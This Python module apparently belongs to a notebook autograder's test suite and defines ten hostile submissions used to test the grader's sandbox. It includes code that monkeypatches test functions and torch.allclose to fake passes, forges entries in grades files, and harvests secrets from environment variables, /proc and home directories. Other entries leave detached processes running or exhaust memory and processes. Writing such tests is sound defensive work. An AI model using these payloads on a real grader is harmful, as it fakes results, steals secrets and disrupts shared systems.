"""The attacks of issue 13, each as a function building a submitted notebook.

Every builder gets the chapter's solution notebook (``source``), its student release
(``release``), the chapter's markup (``chapter``) and another chapter's solution notebook
(``other``) and returns a new notebook (a dict; the inputs are never changed). An attack that
finds something it should not see prints ``LEAK:`` followed by what it found, so a test can look
for that word in the executed copy; the secrets planted by the tests start with ``SECRET-H2-``.

``SAFE`` lists the attacks harmless to a machine without isolation (the benchmark runs them with
today's grader too); the others (memory, processes) need the sandbox's limits.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Callable, Dict

NOT_IMPLEMENTED_LINE = "raise NotImplementedError("


def _code(text: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": text}


def _text(cell) -> str:
    source = cell.get("source", "")
    return "".join(source) if isinstance(source, list) else source


def _answer_indexes(nb, chapter) -> list:
    """Indexes of the answer cells in a release or solution notebook of ``chapter``."""
    found = []
    for index, cell in enumerate(nb["cells"]):
        info = (cell.get("metadata") or {}).get("attention_book") or {}
        if info.get("role") == "answer" and cell.get("cell_type") == "code":
            found.append(index)
    if not found:  # a solution notebook: the chapter's markup knows its answer cells
        found = [i for ex in chapter.exercises for i in ex.answer_cells]
    return found


def solved_subset(source, chapter, keep) -> dict:
    """The solution notebook with the answers of every exercise not in ``keep`` stubbed again."""
    from attention_book.instructor.markup import strip_solution

    nb = copy.deepcopy(source)
    for ex in chapter.exercises:
        if ex.label in keep:
            continue
        for index in ex.answer_cells:
            nb["cells"][index]["source"] = strip_solution(_text(nb["cells"][index]), ex.label)
    return nb


def _release_with(release, chapter, code: str, stub_return: bool = False) -> dict:
    """The release with ``code`` put at the top of its first answer cell (an answer cell: the
    grader keeps what students write there)."""
    nb = copy.deepcopy(release)
    answers = _answer_indexes(nb, chapter)
    for position, index in enumerate(answers):
        text = _text(nb["cells"][index])
        if stub_return:  # answers that return their first argument instead of raising
            lines = []
            for line in text.split("\n"):
                if NOT_IMPLEMENTED_LINE in line:
                    indent = line[: len(line) - len(line.lstrip())]
                    line = f"{indent}return next(iter(locals().values()))"
                lines.append(line)
            text = "\n".join(lines)
        if position == 0:
            text = code.strip("\n") + "\n\n" + text
        nb["cells"][index]["source"] = text
    return nb


PATCH_CHECKS = r'''
import json, os, glob
import attention_book.checks.core as _core
import attention_book.instructor.hidden as _hidden
import attention_book.instructor.kernel_side as _ks
_core.run_tests = lambda *args, **kwargs: True
_hidden.hidden_test = lambda *args, **kwargs: (lambda function: function)
def _fake_evaluate(ns, label, *args, **kwargs):
    for path in args:
        if isinstance(path, str) and path.endswith(".jsonl"):
            with open(path, "a") as handle:
                handle.write(json.dumps({"exercise": label, "public": {"passed": ["a"] * 9,
                             "failed": []}, "hidden": []}) + "\n")
_ks.evaluate = _fake_evaluate
for _name in dir(_ks):
    if _name in ("harvest", "call", "run"):
        setattr(_ks, _name, lambda *args, **kwargs: None)
'''

ALLCLOSE = r'''
import torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: True
'''

FORGE_RESULTS = r'''
import glob, json, os
_lines = [{"exercise": f"ex-0{n}-x", "hidden": [{"name": "h", "weight": w, "passed": True}]}
          for n in range(1, 10) for w in (float("nan"), -5.0, 1e9)]
for _pattern in ("/tmp/**/results*.jsonl", "../**/*.jsonl", "/tmp/**/*.pt", "../**/*.pt",
                 "../**/grades.csv", "/tmp/**/grades.csv", "../**/records/*.json"):
    for _path in glob.glob(_pattern, recursive=True):
        try:
            with open(_path, "a") as _handle:
                _handle.write("\n".join(json.dumps(line) for line in _lines) + "\n")
            print("LEAK: wrote", _path)
        except OSError:
            pass
'''

SPY = r'''
import glob, os, pathlib
for _key, _value in os.environ.items():
    if "SECRET-H2-" in _value:
        print("LEAK: env", _key, _value)
for _pattern in ("/root/*", "/root/.*/*", "/home/*/*", "/home/*/.*/*", "/tmp/*", "/tmp/*/*",
                 os.path.expanduser("~") + "/../*", "/proc/*/environ", "/proc/*/cmdline"):
    for _path in glob.glob(_pattern):
        try:
            _data = pathlib.Path(_path).read_bytes()[:100000]
        except OSError:
            continue
        if b"SECRET-H2-" in _data:
            print("LEAK: file", _path, _data[:200])
        _args = _data.split(b"\x00")
        # the grader's own process: its console script, its module or pytest, by argument (a
        # checkout folder called attention-book in the sandbox's own command lines is not one)
        if _path.endswith("cmdline") and (any(_a.rsplit(b"/", 1)[-1] == b"attention-book" for _a in _args[:2])
                                          or any(b"attention_book.cli" in _a or b"pytest" in _a for _a in _args)):
            print("LEAK: grader command line", _data[:300])
import attention_book
_repo = pathlib.Path(attention_book.__file__).resolve().parents[2]
for _path in sorted(_repo.glob("instructor/**/*.py")) + sorted(_repo.glob("instructor/*")):
    try:
        print("LEAK: instructor file", _path, _path.read_text()[:80])
    except OSError:
        pass
for _pattern in ("/*/*.ipynb", "/tmp/*/*.ipynb", "/tmp/**/grades.csv", "/tmp/**/records", "../*/*.ipynb",
                 "../../*/*.ipynb", "/work/**/submissions*/*.ipynb", "/work/**/records/*.json"):
    for _path in glob.glob(_pattern, recursive=True):
        print("LEAK: sees", _path)
'''

PRINT_FLOOD = r'''
import sys
for _i in range({count}):
    print(_i, flush=True)
'''

DETACH = r'''
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep({seconds})", "HOSTILE-SLEEPER"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import glob, time
        time.sleep(3)
        for _path in glob.glob("/**/grades.csv", recursive=True)[:5]:
            try:
                open(_path, "a").write("mallory,ex,100,1,forged\n")
            except OSError:
                pass
        time.sleep({seconds})
    os._exit(0)
'''

MEMORY = r'''
_hog = []
for _i in range(64):
    _hog.append(bytearray(1 << 30))  # 1 GiB at a time, 64 GiB in all
'''

FORK = r'''
import subprocess, sys
_children = []
for _i in range(200):
    try:
        _children.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)",
                                           "HOSTILE-SLEEPER"]))
    except OSError as err:
        print("stopped at", _i, type(err).__name__)
        break
'''

PROC = r'''
import pathlib
print("LEAK: parent", pathlib.Path(f"/proc/{os.getppid()}/cmdline").read_bytes()[:200])
'''


@dataclass
class Attack:
    name: str
    what: str
    build: Callable[..., dict]
    safe: bool = True  # harmless without the sandbox's limits


def _tamper_cells(source, release, chapter, other):
    """Full answers, but the check cells and the setup cell are edited (to print a fake pass)."""
    nb = copy.deepcopy(source)
    for ex in chapter.exercises:
        for index in ex.check_cells:
            nb["cells"][index]["source"] = 'print("All tests passed")'
    setup = next(cell for cell in nb["cells"] if cell["cell_type"] == "code")
    setup["source"] = "import torch\nprint('setup skipped')\n"
    return nb


ATTACKS: Dict[str, Attack] = {
    attack.name: attack
    for attack in [
        Attack("patch-checks", "monkeypatch run_tests, hidden_test and kernel_side in an answer cell",
               lambda source, release, chapter, other: _release_with(release, chapter, PATCH_CHECKS)),
        Attack("allclose", "torch.allclose/equal patched to say True; answers return their input",
               lambda source, release, chapter, other: _release_with(release, chapter, ALLCLOSE, True)),
        Attack("forge-results", "appends forged results (NaN, negative, huge weights) to any file found",
               lambda source, release, chapter, other: _release_with(release, chapter, FORGE_RESULTS)),
        Attack("spy", "reads the environment, homes, /proc, instructor/ and other submissions",
               lambda source, release, chapter, other: _release_with(release, chapter, SPY)),
        Attack("print-flood", "prints 20,000 small messages",
               lambda source, release, chapter, other: _release_with(
                   release, chapter, PRINT_FLOOD.format(count=20_000))),
        Attack("other-chapter", "hands in another chapter's solved notebook",
               lambda source, release, chapter, other: copy.deepcopy(other)),
        Attack("tamper-cells", "solves everything but edits the check cells and the setup cell",
               _tamper_cells),
        Attack("detach", "leaves processes running (new session, double fork) that rewrite grades.csv",
               lambda source, release, chapter, other: _release_with(
                   release, chapter, DETACH.format(seconds=60)), safe=False),
        Attack("memory", "allocates 64 GiB", lambda source, release, chapter, other: _release_with(
            release, chapter, MEMORY), safe=False),
        Attack("processes", "starts 200 processes", lambda source, release, chapter, other: _release_with(
            release, chapter, FORK), safe=False),
    ]
}

SAFE = sorted(name for name, attack in ATTACKS.items() if attack.safe)
